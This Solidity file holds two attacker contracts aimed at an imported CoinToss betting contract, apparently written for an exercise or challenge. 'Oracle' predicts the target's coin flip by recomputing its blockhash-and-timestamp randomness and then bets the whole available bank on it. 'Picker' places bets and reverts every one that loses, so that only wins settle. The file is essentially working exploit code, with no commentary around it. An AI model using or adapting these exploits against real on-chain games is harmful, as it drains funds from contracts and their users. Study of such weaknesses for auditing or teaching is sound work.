// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./contract.sol";

contract Oracle {
    constructor() payable {}

    function win(CoinToss target) external {
        uint256 coin = uint256(keccak256(abi.encode(blockhash(block.number - 1), block.timestamp))) % 2;
        uint256 bank = address(target).balance - target.promised();
        uint256 bet = address(this).balance < bank ? address(this).balance : bank;
        target.toss{value: bet}(coin == 1);
        target.settle();
    }

    receive() external payable {}
}

/// Bets on both sides, and settles only what it wins.
contract Picker {
    constructor() payable {}

    function play(CoinToss target, bool heads, uint256 bet) external {
        uint256 before = target.promised();
        target.toss{value: bet}(heads);
        require(target.promised() > before, "lost");
        target.settle();
        require(address(this).balance > bet, "lost");
    }

    receive() external payable {}
}
